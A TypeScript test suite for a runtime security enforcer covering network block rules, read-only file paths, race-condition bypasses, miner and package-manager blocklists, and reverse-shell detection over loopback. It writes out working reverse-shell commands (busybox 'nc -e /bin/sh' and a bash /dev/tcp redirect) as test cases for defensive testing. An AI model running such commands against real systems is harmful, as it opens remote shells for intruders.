// The runtime controls against the real enforcer (network, files, reverse shell, privilege): in
// enforce mode the attempt fails with the documented errno (or the process is killed) and a deny
// event names the rule; in audit mode the attempt succeeds with an alert; without the enforcer it
// succeeds (negative controls). Adversarial cases: a thread that rewrites the sockaddr or path
// after the entry check, openat2, io_uring, IPv4-mapped IPv6, reverse shells built with busybox
// `nc -e` and with a bash /dev/tcp redirect. Loopback only (127.0.0.0/8, ::1). Host and three
// podman setups (`--network=none` still has a loopback).
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { chmod, chown, mkdir, writeFile } from "node:fs/promises";
import { existsSync } from "node:fs";
import { ALL_TARGETS, bundleText, eventsOf, explain, makeTargets, pct, type RunResult, type Target } from "../helpers/enforcer.js";
import { freePort } from "../helpers/free-port.js";

const EACCES = 113; // the probes exit 100 + errno
const EPERM = 101;
const ENOSYS = 138;
const KILLED = 137;

function assertEvent(r: RunResult, kind: string, rule: string, action: "deny" | "alert"): void {
  const ev = eventsOf(r, kind).filter((e) => e.rule === rule);
  assert.ok(ev.length >= 1, `no ${kind} ${rule} event: ${explain(r)}`);
  assert.ok(ev.every((e) => e.action === action && e.mode === (action === "deny" ? "enforce" : "audit")), explain(r));
  assert.ok(ev[0]!.process, "the event names the process");
}

function assertNoEvents(r: RunResult, kinds: string[]): void {
  const seen = r.events.filter((e) => kinds.includes(e.kind));
  assert.equal(seen.length, 0, explain(r));
}

for (const kind of ALL_TARGETS) {
  describe(`enforcer runtime controls (${kind})`, () => {
    let t: Target;
    let cleanup: () => Promise<void>;
    before(async () => {
      const made = await makeTargets([kind]);
      t = made.targets[0]!;
      cleanup = made.dispose;
      for (const d of ["ro", "audited", "ok"]) {
        await mkdir(t.hostPath(`${t.scratch}/${d}`), { recursive: true });
        await chmod(t.hostPath(`${t.scratch}/${d}`), 0o777);
      }
      await resetFiles();
    });
    after(async () => cleanup());

    const net = (...args: string[]) => [`${t.progs}/net-probe`, ...args];
    const file = (...args: string[]) => [`${t.progs}/file-probe`, ...args];

    /** enforce: code + deny; audit: okCode + alert; no enforcer: okCode. Returns the enforce run. */
    async function control(
      directives: (mode: string) => string[],
      argv: string[],
      codes: { enforce: number; ok: number },
      kind_: string,
      rule: string,
      reset: () => Promise<void> = async () => {},
    ) {
      const enforce = await t.writeBundle(bundleText(directives("enforce")));
      const r = await t.run([t.enforcer, "--bundle", enforce, "--", ...argv]);
      assert.equal(r.code, codes.enforce, explain(r));
      assertEvent(r, kind_, rule, "deny");
      await reset();
      const audit = await t.writeBundle(bundleText(directives("audit")));
      const a = await t.run([t.enforcer, "--bundle", audit, "--", ...argv]);
      assert.equal(a.code, codes.ok, explain(a));
      assertEvent(a, kind_, rule, "alert");
      await reset();
      const plain = await t.run(argv);
      assert.equal(plain.code, codes.ok, `without the enforcer: ${explain(plain)}`);
      return r;
    }

    const NET = (m: string) => [`control network ${m}`, "net-connect block 127.0.0.2/32 *", "net-connect allow 127.0.0.0/8 *", "net-default allow"];

    test("network: connect to a blocked address fails with EACCES, an allowed one connects", async () => {
      const r = await control(NET, net("connect", "127.0.0.2", "0"), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
      const ev = eventsOf(r, "network.connect")[0]!;
      assert.match(String((ev.detail as Record<string, unknown>).destination), /^127\.0\.0\.2:\d+$/);
      assert.equal((ev.detail as Record<string, unknown>).net_rule, "127.0.0.2/32 *");
      const b = await t.writeBundle(bundleText(NET("enforce")));
      const ok = await t.run([t.enforcer, "--bundle", b, "--", ...net("connect", "127.0.0.1", "0")]);
      assert.equal(ok.code, 0, explain(ok));
      assertNoEvents(ok, ["network.connect"]);
    });

    test("network: a non-blocking connect is judged too", async () => {
      await control(NET, net("connect-nb", "127.0.0.2", "0"), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
    });

    test("network: an IPv4-mapped IPv6 destination matches the IPv4 block rule", async () => {
      await control(NET, net("connect", "::ffff:127.0.0.2", "0"), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
    });

    test("network: UDP sendto and sendmsg with a destination count as connections", async () => {
      await control(NET, net("sendto", "127.0.0.2", "0"), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
      await control(NET, net("sendmsg", "127.0.0.2", "0"), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
    });

    test("network: net-default block refuses what no rule allows (IPv6 ::1 here)", async () => {
      const dflt = (m: string) => [`control network ${m}`, "net-connect allow 127.0.0.0/8 *", "net-default block"];
      await control(dflt, net("connect", "::1", "0"), { enforce: EACCES, ok: 0 }, "network.connect", "network.default");
    });

    test("miners: a connection to a stratum port is refused", async () => {
      const port = String(await freePort());
      const stratum = (m: string) => [`control network ${m}`, `net-connect block 0.0.0.0/0 ${port}`, `net-connect block ::/0 ${port}`];
      await control(stratum, net("connect", "127.0.0.1", port), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
    });

    test("network: a thread that rewrites the sockaddr after the entry check is caught at the exit stop", async () => {
      const argv = net("connect-race", "127.0.0.1", "127.0.0.2", "0");
      const plain = await t.run(argv);
      assert.equal(plain.code, 0, `the race is winnable without the enforcer: ${explain(plain)}`);
      const b = await t.writeBundle(bundleText(NET("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...argv]);
      assert.equal(r.code, KILLED, explain(r));
      assertEvent(r, "network.connect", "network.exit-mismatch", "deny");
      assert.doesNotMatch(r.stdout, /raced/, "killed before it could use the connection");
      // audit: the connection is made and reported (as a mismatch when the race was won after
      // the entry check, or as a block-rule alert when the entry check already saw 127.0.0.2)
      const a = await t.writeBundle(bundleText(NET("audit")));
      const ra = await t.run([t.enforcer, "--bundle", a, "--", ...argv]);
      assert.equal(ra.code, 0, explain(ra));
      const alerts = eventsOf(ra, "network.connect");
      assert.ok(alerts.length >= 1 && alerts.every((e) => e.action === "alert"), explain(ra));
    });

    test("network: bind to a port that is not a net-listen port fails with EACCES", async () => {
      const [allowed, other] = [String(await freePort()), String(await freePort())];
      const listen = (m: string) => [`control network ${m}`, "net-listen-default block", `net-listen ${allowed}`];
      await control(listen, net("bind", other), { enforce: EACCES, ok: 0 }, "network.listen", "network.listen");
      const b = await t.writeBundle(bundleText(listen("enforce")));
      const ok = await t.run([t.enforcer, "--bundle", b, "--", ...net("bind", allowed)]);
      assert.equal(ok.code, 0, explain(ok));
      assertNoEvents(ok, ["network.listen"]);
    });

    /** A bundle that blocks one protocol to PORT on loopback (IPv4 and IPv6) and allows the rest. */
    const ONLY = (proto: "tcp" | "udp", port: string) => (m: string) => [
      `control network ${m}`, `net-connect block 127.0.0.1/32 ${port} ${proto}`, `net-connect block ::1/128 ${port} ${proto}`, "net-default allow",
    ];

    test("network: a udp-only block rule refuses UDP sendto and connect but not a TCP connect to the same port (IPv4, IPv6)", async () => {
      const port = String(await freePort());
      for (const addr of ["127.0.0.1", "::1"]) {
        const r = await control(ONLY("udp", port), net("sendto", addr, port), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
        const detail = eventsOf(r, "network.connect")[0]!.detail as Record<string, unknown>;
        assert.equal(detail.protocol, "udp", explain(r));
        assert.equal(detail.net_rule, `${addr === "::1" ? "::1/128" : "127.0.0.1/32"} ${port} udp`, explain(r));
        await control(ONLY("udp", port), net("udp-connect", addr, port), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
        const b = await t.writeBundle(bundleText(ONLY("udp", port)("enforce")));
        const tcp = await t.run([t.enforcer, "--bundle", b, "--", ...net("connect", addr, port)]);
        assert.equal(tcp.code, 0, explain(tcp));
        assertNoEvents(tcp, ["network.connect"]);
      }
    });

    test("network: a tcp-only block rule refuses a TCP connect but not UDP to the same port", async () => {
      const port = String(await freePort());
      await control(ONLY("tcp", port), net("connect", "127.0.0.1", port), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
      await control(ONLY("tcp", port), net("connect-nb", "::1", port), { enforce: EACCES, ok: 0 }, "network.connect", "network.block");
      const b = await t.writeBundle(bundleText(ONLY("tcp", port)("enforce")));
      for (const argv of [net("sendto", "127.0.0.1", port), net("udp-connect", "::1", port)]) {
        const udp = await t.run([t.enforcer, "--bundle", b, "--", ...argv]);
        assert.equal(udp.code, 0, explain(udp));
        assertNoEvents(udp, ["network.connect"]);
      }
    });

    test("network: a thread that points the descriptor at a UDP socket during a judged TCP connect is caught at the exit stop", async () => {
      const port = String(await freePort());
      const argv = net("connect-flip", "127.0.0.1", port);
      const plain = await t.run(argv);
      assert.equal(plain.code, 0, `the race is winnable without the enforcer: ${explain(plain)}`);
      const b = await t.writeBundle(bundleText(ONLY("udp", port)("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...argv]);
      assert.equal(r.code, KILLED, explain(r));
      assertEvent(r, "network.connect", "network.exit-mismatch", "deny");
      assert.doesNotMatch(r.stdout, /raced/, "killed before it could use the UDP socket");
      const a = await t.writeBundle(bundleText(ONLY("udp", port)("audit")));
      const ra = await t.run([t.enforcer, "--bundle", a, "--", ...argv]);
      assert.equal(ra.code, 0, explain(ra));
      const alerts = eventsOf(ra, "network.connect");
      assert.ok(alerts.length >= 1 && alerts.every((e) => e.action === "alert"), explain(ra));
    });

    test("network: a udp-only listen port admits UDP binds on it, not TCP binds", async () => {
      const port = String(await freePort());
      const listen = (m: string) => [`control network ${m}`, "net-listen-default block", `net-listen ${port} udp`];
      const r = await control(listen, net("bind", port), { enforce: EACCES, ok: 0 }, "network.listen", "network.listen");
      assert.equal((eventsOf(r, "network.listen")[0]!.detail as Record<string, unknown>).protocol, "tcp", explain(r));
      const b = await t.writeBundle(bundleText(listen("enforce")));
      const ok = await t.run([t.enforcer, "--bundle", b, "--", ...net("bind-udp", port)]);
      assert.equal(ok.code, 0, explain(ok));
      assertNoEvents(ok, ["network.listen"]);
    });

    const FILES = (m: string) => [`control files ${m}`, `file-readonly ${pct(t.scratch)}/ro`, `file-audit ${pct(t.scratch)}/audited`];

    test("files: write-opens, openat2, unlink, rename, link, symlink, mkdir, truncate under a read-only path fail with EACCES", async () => {
      const ro = `${t.scratch}/ro`;
      for (const argv of [
        file("write", `${ro}/f`),
        file("write", `${ro}/new`),
        file("openat2", `${ro}/new2`),
        file("truncate", `${ro}/f`),
        file("rename", `${t.scratch}/ok/other`, `${ro}/moved`),
        file("link", `${t.scratch}/ok/safe`, `${ro}/hard`),
        file("symlink", "/x", `${ro}/sym`),
        file("mkdir", `${ro}/dir`),
        file("unlink", `${ro}/f`),
      ]) {
        const r = await control(FILES, argv, { enforce: EACCES, ok: 0 }, "file.write", "files.readonly", resetFiles);
        assert.equal(eventsOf(r, "file.write")[0]!.detail?.prefix, ro, explain(r));
        await resetFiles();
      }
    });

    /** Puts the files back as before() made them (an audit run or a negative control changed them). */
    async function resetFiles(): Promise<void> {
      const { rm } = await import("node:fs/promises");
      for (const d of ["ro", "audited", "ok"]) {
        await rm(t.hostPath(`${t.scratch}/${d}`), { recursive: true, force: true });
        await mkdir(t.hostPath(`${t.scratch}/${d}`), { recursive: true });
        await chmod(t.hostPath(`${t.scratch}/${d}`), 0o777);
      }
      for (const f of ["ro/f", "audited/f", "ok/safe", "ok/other"]) {
        await writeFile(t.hostPath(`${t.scratch}/${f}`), "data\n");
        await chmod(t.hostPath(`${t.scratch}/${f}`), 0o666);
        await chown(t.hostPath(`${t.scratch}/${f}`), t.uid, t.uid); // chmod needs the owner
      }
    }

    test("files: chmod under a read-only path fails with EPERM; reading is free", async () => {
      await control(FILES, file("chmod", `${t.scratch}/ro/f`), { enforce: EPERM, ok: 0 }, "file.write", "files.readonly", resetFiles);
      const b = await t.writeBundle(bundleText(FILES("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...file("read", `${t.scratch}/ro/f`)]);
      assert.equal(r.code, 0, explain(r));
      assertNoEvents(r, ["file.write", "file.audit"]);
    });

    test("files: a symlink outside that points into a read-only path is judged by its target", async () => {
      const { symlink, rm } = await import("node:fs/promises");
      await rm(t.hostPath(`${t.scratch}/ok/link`), { force: true });
      await symlink(`${t.scratch}/ro/f`, t.hostPath(`${t.scratch}/ok/link`));
      const b = await t.writeBundle(bundleText(FILES("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...file("write", `${t.scratch}/ok/link`)]);
      assert.equal(r.code, EACCES, explain(r));
      assertEvent(r, "file.write", "files.readonly", "deny");
    });

    test("files: a write under an audited path is reported and allowed", async () => {
      const b = await t.writeBundle(bundleText(FILES("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...file("write", `${t.scratch}/audited/f`)]);
      assert.equal(r.code, 0, explain(r));
      const ev = eventsOf(r, "file.audit");
      assert.equal(ev.length, 1, explain(r));
      assert.equal(ev[0]!.action, "alert");
      assert.equal(ev[0]!.detail?.path, `${t.scratch}/audited/f`);
    });

    test("files: a thread that rewrites the path after the entry check is caught at the exit stop", async () => {
      await resetFiles();
      const argv = file("open-race", `${t.scratch}/ok/safe`, `${t.scratch}/ro/f`);
      const plain = await t.run(argv);
      assert.equal(plain.code, 0, `the race is winnable without the enforcer: ${explain(plain)}`);
      const b = await t.writeBundle(bundleText(FILES("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...argv]);
      assert.equal(r.code, KILLED, explain(r));
      assertEvent(r, "file.write", "files.exit-mismatch", "deny");
      assert.doesNotMatch(r.stdout, /raced/);
    });

    test("io_uring stays unavailable (ENOSYS) with the runtime controls on", async () => {
      const b = await t.writeBundle(bundleText(FILES("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...file("io_uring")]);
      assert.equal(r.code, ENOSYS, explain(r));
    });

    const SHELLS = (m: string) => [`control reverse-shell ${m}`, "shell-name sh", "shell-name bash", "shell-name dash", "shell-name python*"];

    test("reverse shell: a shell whose stdio is a TCP socket is killed at exec (IPv4 and IPv6)", async () => {
      const r = await control(SHELLS, net("revshell", "127.0.0.1", "0", "/bin/sh", "-c", "exit 7"), { enforce: KILLED, ok: 7 }, "process.reverse-shell", "reverse-shell.stdio");
      assert.match(String(eventsOf(r, "process.reverse-shell")[0]!.detail?.peer), /^127\.0\.0\.1:\d+$/);
      await control(SHELLS, net("revshell", "::1", "0", "/bin/sh", "-c", "exit 7"), { enforce: KILLED, ok: 7 }, "process.reverse-shell", "reverse-shell.stdio");
      const b = await t.writeBundle(bundleText(SHELLS("enforce")));
      const ok = await t.run([t.enforcer, "--bundle", b, "--", "/bin/sh", "-c", "exit 7"]);
      assert.equal(ok.code, 7, explain(ok));
      assertNoEvents(ok, ["process.reverse-shell"]);
    });

    test("reverse shell: busybox nc -e /bin/sh", async () => {
      const port = String(await freePort());
      const script = `/bin/busybox nc -l -p ${port} >/dev/null & sleep 0.5; /bin/busybox nc 127.0.0.1 ${port} -e /bin/sh -c "exit 9" </dev/null; echo nc=$?`;
      const argv = ["/bin/busybox", "sh", "-c", script];
      const b = await t.writeBundle(bundleText(SHELLS("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...argv]);
      assert.match(r.stdout, /nc=137/, explain(r));
      assertEvent(r, "process.reverse-shell", "reverse-shell.stdio", "deny");
      const a = await t.writeBundle(bundleText(SHELLS("audit")));
      const ra = await t.run([t.enforcer, "--bundle", a, "--", ...argv]);
      assert.match(ra.stdout, /nc=9/, explain(ra));
      assertEvent(ra, "process.reverse-shell", "reverse-shell.stdio", "alert");
      const plain = await t.run(argv);
      assert.match(plain.stdout, /nc=9/, explain(plain));
    });

    test("reverse shell: bash with a /dev/tcp redirect", async (tt) => {
      if (kind !== "host" || !existsSync("/bin/bash")) {
        tt.skip("SKIP: bash (dynamic, from the host) is only available on the host; busybox ash has no /dev/tcp");
        return;
      }
      const port = String(await freePort());
      const script = `/bin/busybox nc -l -p ${port} >/dev/null & sleep 0.5; bash -c "exit 5" <>/dev/tcp/127.0.0.1/${port} >&0 2>&0; echo bash=$?`;
      const argv = ["/bin/bash", "-c", script];
      const b = await t.writeBundle(bundleText(SHELLS("enforce")));
      const r = await t.run([t.enforcer, "--bundle", b, "--", ...argv]);
      assert.match(r.stdout, /bash=137/, explain(r));
      assertEvent(r, "process.reverse-shell", "reverse-shell.stdio", "deny");
      const a = await t.writeBundle(bundleText(SHELLS("audit")));
      const ra = await t.run([t.enforcer, "--bundle", a, "--", ...argv]);
      assert.match(ra.stdout, /bash=5/, explain(ra));
      const plain = await t.run(argv);
      assert.match(plain.stdout, /bash=5/, explain(plain));
    });

    test("a compiled policy blocks miners and package managers by name and stratum ports end to end", async () => {
      const { compilePolicy } = await import("../../src/policy/compile-policy.js");
      const { parsePolicy } = await import("../../src/policy/load-policy.js");
      const { writeBundle: render } = await import("../../src/bundle/write-bundle.js");
      const { copyFile } = await import("node:fs/promises");
      const port = await freePort();
      const yaml = `apiVersion: inlay.dev/v1
kind: RuntimePolicy
metadata: {name: e2e}
spec:
  executables: {drift: {mode: "off"}}
  miners: {mode: enforce, stratum: {mode: enforce, ports: [${port}]}}
  packageManagers: {mode: enforce}
  network: {outbound: {mode: "off"}, listen: {mode: "off"}}
`;
      const spec = compilePolicy(parsePolicy(yaml, { file: "e2e.yaml" }).policy, { buildTime: new Date() });
      const bundle = await t.writeBundle(render(spec).toString("utf8"));
      for (const name of ["xmrig", "apt-get", "pip3"]) {
        await copyFile(`${t.hostPath(t.progs)}/pid1`, t.hostPath(`${t.scratch}/${name}`));
        await chmod(t.hostPath(`${t.scratch}/${name}`), 0o755);
        const r = await t.run([t.enforcer, "--bundle", bundle, "--", `${t.progs}/exec-via`, "plain", `${t.scratch}/${name}`, "exit", "5"]);
        assert.equal(r.code, EACCES, explain(r));
        assertEvent(r, "exec.blocked", "blocklist.name", "deny");
        const plain = await t.run([`${t.progs}/exec-via`, "plain", `${t.scratch}/${name}`, "exit", "5"]);
        assert.equal(plain.code, 5, explain(plain));
      }
      const r = await t.run([t.enforcer, "--bundle", bundle, "--", ...net("connect", "127.0.0.1", String(port))]);
      assert.equal(r.code, EACCES, explain(r));
      assertEvent(r, "network.connect", "network.block", "deny");
      const ok = await t.run([t.enforcer, "--bundle", bundle, "--", ...net("connect", "127.0.0.1", "0")]);
      assert.equal(ok.code, 0, explain(ok));
    });

    if (kind === "host" || kind === "podman-default") {
      test("privilege: setuid/setgid calls fail with EPERM in enforce mode", async () => {
        const priv = (m: string) => [`control privilege ${m}`];
        await control(priv, [`${t.progs}/setuid-exec`, "1000", "1000", "/bin/true"], { enforce: EPERM, ok: 0 }, "privilege.setid-call", "privilege.setid-call");
      });
    }
  });
}
